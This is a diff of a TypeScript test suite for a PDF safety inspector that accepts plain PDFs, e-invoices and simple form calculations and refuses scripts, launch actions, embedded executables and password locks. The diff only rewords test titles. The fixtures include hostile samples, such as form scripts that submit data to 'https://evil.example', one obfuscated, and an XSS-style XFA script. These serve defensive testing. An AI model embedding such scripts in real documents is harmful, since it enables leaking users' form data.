@@ -38,13 +38,13 @@ const packings: Packing[] = ['open', 'plain', 'deflated', 'predicted', 'twice', 
 describe.each(packings)('a PDF whose objects are written %s', (packing) => {
   const withAction = (action: string) => writePdf({ catalogue: '/OpenAction 4 0 R', objects: { 4: action }, packing });
 
-  test('is taken when it is nothing but a page', async () => {
+  test('is accepted when it contains only a page', async () => {
     const content = writePdf({ packing });
     expect(await inspectPdf(content)).toEqual({ problem: null, eInvoice: null, withoutScripts: null });
     expect(await readAgain(content)).toMatchObject({ pages: 1, hasScript: false, files: [] });
   });
 
-  test('is refused for a script, which another reader sees as well', async () => {
+  test('is refused for a script, which an independent PDF reader finds too', async () => {
     expect(await problemOf(withAction(script))).toBe('script');
     expect(await readAgain(withAction(script))).toMatchObject({ hasScript: true });
   });
@@ -66,7 +66,7 @@ describe.each(packings)('a PDF whose objects are written %s', (packing) => {
     ],
     ['a place in the file', '<</S/GoTo/D[3 0 R/Fit]>>', null],
     ['printing', '<</S/Named/N/Print>>', null],
-  ])('and that opens with %s: %s', async (_, action, problem) => {
+  ])('and that runs %s when opened: %s', async (_, action, problem) => {
     expect(await problemOf(withAction(action))).toBe(problem);
   });
 
@@ -87,14 +87,14 @@ describe.each(packings)('a PDF whose objects are written %s', (packing) => {
     ],
     ['words about JavaScript, Launch and /JS', '/Lang(JavaScript Launch /JS /XFA EmbeddedFile)', '', null],
     ['names that only begin alike', '/JavaScripts 1/Launcher 2/XFAs 3/EFs 4', '', null],
-  ])('and that has %s', async (_, catalogue, page, problem) => {
+  ])('and that contains %s is judged as it should', async (_, catalogue, page, problem) => {
     const objects = {
       4: streamOf('/Filter/FlateDecode', deflateSync('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')),
     };
     expect(await problemOf(writePdf({ catalogue, page, objects, packing }))).toBe(problem);
   });
 
-  test('is refused for a program in a note, whatever type its stream has', async () => {
+  test('is refused for a program in an annotation, whatever the type of its stream', async () => {
     const content = writePdf({
       page: '/Annots[4 0 R]',
       objects: {
@@ -123,7 +123,7 @@ describe('an e-invoice inside of a PDF', () => {
       packing: 'deflated',
     });
 
-  test('is taken and named, as programs for invoices write it', async () => {
+  test('is accepted and named, as invoicing programs write it', async () => {
     const content = fixture('factur-x.pdf');
     expect(await inspectPdf(content)).toEqual({ problem: null, eInvoice: 'factur-x.xml', withoutScripts: null });
     expect((await readAgain(content)).files).toEqual(['factur-x.xml']);
@@ -160,7 +160,7 @@ describe('an e-invoice inside of a PDF', () => {
   });
 });
 
-describe('a form to fill in', () => {
+describe('a PDF form', () => {
   const form = (event: string, text: string) =>
     writePdf({
       catalogue: '/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>',
@@ -178,7 +178,7 @@ describe('a form to fill in', () => {
     ['V', 'AFRange_Validate(true, 0, true, 100);'],
     ['C', 'AFSimple_Calculate("SUM", new Array ("a", "b"));'],
     ['C', 'event.value = AFMakeNumber(getField("a").value) * Math.round(getField("b").value);'],
-  ])('that formats and calculates its fields (%s) is taken without its scripts', async (event, text) => {
+  ])('that formats and calculates its fields (%s) is accepted without its scripts', async (event, text) => {
     const content = form(event, text);
     expect((await readAgain(content)).hasScript).toBe(true);
     const { problem, withoutScripts } = await inspectPdf(content);
@@ -195,7 +195,7 @@ describe('a form to fill in', () => {
     ['C', 'this.submitForm("https://evil.example")'],
     ['C', 'var f = this["sub" + "mitForm"]; f("https://evil.example")'],
     ['U', 'AFNumber_Format(2, 0, 0, 0, "", true);'],
-  ])('that does more (%s: %s) is refused', async (event, text) => {
+  ])('whose script does anything else (%s: %s) is refused', async (event, text) => {
     expect(await problemOf(form(event, text))).toBe('script');
   });
 
@@ -214,7 +214,7 @@ describe('an encrypted PDF', () => {
     return await pdf.save();
   };
 
-  test('that opens without a password is taken, and its hidden parts are seen', async () => {
+  test('that opens without a password is accepted, and its hidden parts are inspected', async () => {
     expect(await problemOf(fixture('owner-restricted.pdf'))).toBeNull();
     expect((await readAgain(fixture('owner-restricted.pdf'))).pages).toBe(1);
     expect(await problemOf(await encrypt(''))).toBeNull();
@@ -222,12 +222,12 @@ describe('an encrypted PDF', () => {
     expect(await problemOf(await encrypt('', (pdf) => void pdf.attach(Uint8Array.of(77, 90), 'x.exe')))).toBe('file');
   });
 
-  test('that opens with a password only says so', async () => {
+  test('that needs a password is refused, saying so', async () => {
     expect(await problemOf(await encrypt('secret'))).toBe('locked');
   });
 });
 
-describe('the frame of a PDF', () => {
+describe('the file structure of a PDF', () => {
   test.each([
     ['a line before its head', writePdf({ before: '\r\n' }), null],
     ['the commands of a printer before its head', writePdf({ before: '\x1b%-12345X@PJL JOB\r\n' }), null],
@@ -315,7 +315,7 @@ describe('the frame of a PDF', () => {
       'unreadable',
     ],
   ] as [string, Record<number, string | Uint8Array>, string][])(
-    'and a program %s is not overlooked',
+    'and a program %s is found or makes the file unreadable',
     async (_, objects, problem) => {
       expect(await problemOf(writePdf({ objects }))).toBe(problem);
     },
@@ -334,7 +334,7 @@ describe('the frame of a PDF', () => {
 });
 
 test.each([true, false])(
-  'PDFs as a library writes them are taken, with lists of objects: %s',
+  'PDFs as a common library writes them are accepted, with object lists: %s',
   async (useObjectStreams) => {
     const pdf = await PDFDocument.create();
     pdf.addPage([300, 200]).drawText('Invoice 1 (obj, stream, /JS)');
